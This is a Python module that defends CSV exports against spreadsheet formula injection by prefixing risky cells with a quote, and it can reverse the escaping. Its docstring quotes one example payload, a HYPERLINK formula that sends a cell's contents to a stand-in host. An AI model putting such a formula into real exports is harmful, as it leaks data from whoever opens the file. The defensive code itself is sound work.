"""CSV cells that a spreadsheet shows as text instead of running them as a formula.

Excel and LibreOffice treat a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after
their own trimming, a tab or carriage return) as a formula: a case reference such as
``=HYPERLINK("http://x/?d="&B2)`` would run when the privacy officer opens the export.
OWASP's advice is to prefix such a cell with a single quote, which spreadsheets hide and
read as "text". A cell that itself begins with a quote gets one too, so the escaping can
be undone exactly: drop one leading ``'`` from every cell that has one (``unescape_cell``).

Every CSV the product writes goes through ``safe_row``; JSON exports need none of this.
Pure module: no I/O.
"""

from __future__ import annotations

from collections.abc import Iterable

__all__ = ["FORMULA_START", "safe_cell", "safe_row", "unescape_cell"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def safe_cell(value: object) -> str:
    """The cell text, with a leading ``'`` when a spreadsheet could take it for a formula
    (or when it begins with ``'`` already, so the escape stays reversible)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_START) or text.startswith(_QUOTE):
        return _QUOTE + text
    return text


def safe_row(values: Iterable[object]) -> list[str]:
    return [safe_cell(v) for v in values]


def unescape_cell(cell: str) -> str:
    """The original text of a cell ``safe_cell`` wrote."""
    return cell[1:] if cell.startswith(_QUOTE) else cell
